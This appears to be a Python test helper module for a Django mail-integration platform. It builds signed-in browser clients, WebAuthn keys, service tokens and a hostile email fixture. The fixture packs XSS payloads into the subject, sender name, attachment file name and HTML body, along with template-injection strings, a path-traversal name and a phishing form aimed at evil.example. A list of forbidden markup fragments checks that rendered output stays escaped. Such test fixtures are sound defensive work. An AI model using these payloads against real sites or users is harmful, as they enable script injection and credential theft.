"""Who calls: people in browsers, platform features with tokens, and what Alice's mailbox holds."""

from __future__ import annotations

import time
from dataclasses import dataclass
from datetime import timedelta
from email.message import EmailMessage
from uuid import UUID

from allauth.account.authentication import AUTHENTICATION_METHODS_SESSION_KEY
from allauth.account.models import EmailAddress
from allauth.mfa.models import Authenticator
from cryptography.hazmat.primitives.asymmetric import ec
from django.core.signals import request_finished
from django.db import close_old_connections, transaction
from django.http import StreamingHttpResponse
from django.test import Client, override_settings
from django.utils import timezone
from fido2.cose import ES256
from fido2.utils import websafe_encode
from fido2.webauthn import (
    AttestationObject,
    AttestedCredentialData,
    AuthenticatorData,
    CollectedClientData,
)

from accounts import api_tokens, clients, delegations
from accounts.ids import uuid7
from accounts.models import Delegation, ServiceClient, User
from config.sites import STAFF
from integrations.formats.mime import rfc5322
from integrations.mail import remote_message_refs
from integrations.mail.remote_message_refs import RemoteMessageRef
from integrations.models import Attachment, Connection
from integrations.providers import PROVIDERS
from limited_use.agreements import consents
from limited_use.agreements.service_clients import create_declared_client
from limited_use.ledger import entries
from limited_use.models import Consent
from limited_use.policy.feature_registry import FEATURES
from limited_use.vault.sealing import get_sealer
from tests.accounts.cast import EC
from tests.integrations.household import Household
from tests.walls import AT_STAFF_SITE

KEYS = {"keys": [EC.as_dict(private=False)]}
# The click on the page before consent, as the page sends it.
AGREED = {"agree": "yes", "version": f"inbox:{FEATURES['inbox'].version}"}
# What a mailbox in memory calls the first that was delivered.
FIRST = "m00000000"
SWITCH_ON = {"agree": "yes", "version": str(FEATURES["inbox-widget"].version)}
# In every place of Alice's mail that a page or an answer shows.
MARKER = "zx-marker-7741"
SCRIPT = "<script>alert(1)</script>"
TEMPLATE = "{{7*7}}{% now 'Y' %}"
SUBJECT = f"{MARKER} {SCRIPT} {TEMPLATE} \"'>&amp;"
NAME = f"{MARKER} <img src=x onerror=alert(1)> {TEMPLATE}"
FILE = f"<svg onload=alert(1)>/../{MARKER}{{{{settings.SECRET_KEY}}}}'&quot; &amp;.html"
TEXT = f"{MARKER} {TEMPLATE} <b>plain</b>"
HTML = f"""<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<style>body{{background:url(https://evil.example/p.png)}}</style></head>
<body onload="steal()"><p onclick="steal()">{MARKER} {TEMPLATE}</p>{SCRIPT}
<a href="javascript:steal()">one</a><a href="https://good.example/">two</a>
<img src="https://evil.example/p.png" srcset="https://evil.example/2.png 2x" onerror="steal()">
<iframe src="https://evil.example/"></iframe><svg onload="steal()"><script>steal()</script></svg>
<form action="https://evil.example/"><input name="password"><button>Go</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">
<object data="https://evil.example/"></object><embed src="https://evil.example/">
<div style="position:fixed;top:0;left:0;width:100%;height:100%">over</div></body></html>"""
# What may stand nowhere as markup, whatever it was escaped from.
MARKUP = (
    b"<script>alert", b"<img src=x", b"<svg onload", b"onerror=steal", b'onerror="steal',
    b"javascript:steal", b'"steal()"',
)  # fmt: skip


def hostile_mail() -> bytes:
    """Return a mail with markup and template tags in every place that is shown."""
    mail = EmailMessage()
    mail["From"] = f'"{NAME}" <bob@example.test>'.replace('""', '"')
    mail["To"] = "alice@gmail.example"
    mail["Subject"] = SUBJECT
    mail["Message-ID"] = f"<{MARKER}@example.test>"
    mail.set_content(TEXT)
    mail.add_alternative(HTML, subtype="html")
    mail.add_attachment(
        f"<script>{MARKER}</script>".encode(), maintype="text", subtype="html", filename=FILE
    )
    return bytes(mail)


def fill_mailbox(house: Household, mailbox, *, count: int = 6) -> None:
    """Bring the hostile mail and `count` plain ones in, by a sync; an hour between any two."""
    now = timezone.now().replace(microsecond=0)
    mailbox.deliver(
        hostile_mail(), at=now - timedelta(hours=1), label_ids=("INBOX", "UNREAD", "STARRED")
    )
    for hour in range(count):
        mailbox.deliver(
            at=now - timedelta(hours=hour + 2),
            thread="long" if hour < 2 else None,
            label_ids=("INBOX", "UNREAD") if hour % 2 else ("SENT",),
        )
    house.settle()


@dataclass
class Owned:
    """Ids of something of Alice's, as they stand in addresses."""

    user: str
    message: str
    thread: str
    attachment: str
    connection: str
    integration: str


def get_owned_ids(house: Household) -> Owned:
    attachment = Attachment.objects.get(integration_id=house.integration.id)
    return Owned(
        str(house.user.id),
        str(attachment.message_id),
        str(attachment.message.thread_id),
        str(attachment.id),
        str(house.connection.id),
        str(house.integration.id),
    )


def make_remote_attachment_ref(house: Household) -> RemoteMessageRef:
    """Return where a file of the hostile mail is at the provider, as a search leads to it."""
    (part,) = (one.part for one in rfc5322.parse_message(hostile_mail()).attachments)
    key = get_sealer(holder=house.integration.id, epoch=house.integration.epoch)
    return remote_message_refs.make_remote_message_ref(
        key, {"id": FIRST, "part": part, "filename": "plan.html"}
    )


def go_away(answer: StreamingHttpResponse) -> None:
    """Leave before an answer was read, as a client does; the server closes it then."""
    # If it was begun, Django's client does what follows.
    answer._iterator.close()
    if not answer.closed:
        # Or the connection of the test would be closed with it.
        request_finished.disconnect(close_old_connections)
        try:
            answer.close()
        finally:
            request_finished.connect(close_old_connections)


def browser(
    user: User,
    *,
    mfa: bool = False,
    recent: bool = False,
    strict: bool = False,
    at_staff_site: bool = False,
) -> Client:
    """Return a signed-in browser; `recent`ly confirmed, with a second factor, if asked."""
    site = {AT_STAFF_SITE: True} if at_staff_site else {}
    client = Client(enforce_csrf_checks=strict, **site)
    client.force_login(user)
    factors = ("password", "mfa") if mfa else ("password",)
    session = client.session
    session[AUTHENTICATION_METHODS_SESSION_KEY] = [
        {"method": factor, "at": time.time(), "reauthenticated": recent} for factor in factors
    ]
    session["account_authentication_methods_user"] = str(user.pk)
    session.save()
    return client


def desk(user: User, **more: bool) -> Client:
    """Return the browser of a member of staff at the staff site, signed in with both factors."""
    with override_settings(SITE=STAFF):
        return browser(user, mfa=True, at_staff_site=True, **more)


def verified(user: User, *, verified: bool = True) -> None:
    """Say whether the platform vouches for a person's address, as provisioning does."""
    EmailAddress.objects.update_or_create(
        user=user, email=user.email, defaults={"verified": verified, "primary": True}
    )


def allow_sending(connection: Connection) -> None:
    """Have the owner of a connection agree to sending mail, here and at the provider."""
    scopes = PROVIDERS[connection.provider].capabilities["mail.send"].scopes
    connection.granted_scopes = sorted({*connection.granted_scopes, *scopes})
    connection.asked_scopes = connection.granted_scopes
    connection.save(update_fields=["granted_scopes", "asked_scopes"])
    with transaction.atomic():
        consents.give(
            person_id=connection.user_id,
            organisation_id=connection.organisation_id,
            feature="mail-sending",
            version=FEATURES["mail-sending"].version,
            at=timezone.now(),
        )


def security_key(user: User) -> Authenticator:
    """Return a WebAuthn key of that person, named with the marker; it cannot sign."""
    public = ec.generate_private_key(ec.SECP256R1()).public_key()
    attested = AttestedCredentialData.create(
        aaguid=bytes(16),
        credential_id=user.id.bytes,
        public_key=ES256.from_cryptography_key(public),
    )
    flags = AuthenticatorData.FLAG.UP | AuthenticatorData.FLAG.UV | AuthenticatorData.FLAG.AT
    data = AuthenticatorData.create(bytes(32), flags, 0, bytes(attested))
    client_data = CollectedClientData.create(
        CollectedClientData.TYPE.CREATE, challenge=bytes(32), origin="http://localhost:8000"
    )
    credential = {
        "id": websafe_encode(user.id.bytes),
        "rawId": websafe_encode(user.id.bytes),
        "type": "public-key",
        "clientExtensionResults": {},
        "response": {
            "clientDataJSON": websafe_encode(client_data),
            "attestationObject": websafe_encode(AttestationObject.create("none", data, {})),
        },
    }
    return Authenticator.objects.create(
        user=user,
        type=Authenticator.Type.WEBAUTHN,
        data={"name": MARKER, "passwordless": False, "credential": credential},
    )


def widget() -> ServiceClient:
    """Return the platform feature that shows a person's inbox elsewhere."""
    known = ServiceClient.objects.filter(client_id="inbox-widget").first()
    return known or create_declared_client(
        feature="inbox-widget", purposes=["inbox.display"], jwks=KEYS, at=timezone.now()
    )


def campaigns() -> ServiceClient:
    """Return a client whose row names a purpose that its feature never declared."""
    return clients.create_service_client(
        client_id="campaigns",
        feature="campaigns",
        purposes=["marketing"],
        jwks=KEYS,
        at=timezone.now(),
    )


def switch_on(house: Household, client: ServiceClient) -> Delegation:
    return delegations.switch_delegation_on(
        user_id=house.user.id,
        organisation_id=house.organisation.id,
        feature=client.feature,
        feature_version=FEATURES[client.feature].version,
        at=timezone.now(),
    )


def one_item(house: Household, *, item: UUID | None = None) -> Consent:
    """Return an agreement that support reads one item, for an hour; of none that there is."""
    at = timezone.now()
    with transaction.atomic():
        return consents.give(
            person_id=house.user.id,
            organisation_id=house.organisation.id,
            feature="support",
            version=FEATURES["support"].version,
            item=item or uuid7(),
            at=at,
            expires_at=at + timedelta(hours=1),
        )


def entry(house: Household) -> UUID:
    """Return an entry of the ledger that is about the person's mailbox."""
    return entries.record_ledger_event(
        event="integration.connected", about=house.integration.id, at=timezone.now()
    )


def feature(
    client: ServiceClient, delegation: Delegation, purpose: str = "inbox.display"
) -> Client:
    """Return a caller with a fresh token of that feature, for the delegation's person."""
    token = api_tokens.issue_access_token(
        client=client, delegation_id=delegation.id, purpose=purpose, at=timezone.now()
    )
    return bearer(token)


def bearer(token: str) -> Client:
    return Client(headers={"Authorization": f"Bearer {token}"})


def collector(token: str) -> Client:
    """Return what collects the metrics, at the staff site."""
    return Client(headers={"Authorization": f"Bearer {token}"}, **{AT_STAFF_SITE: True})
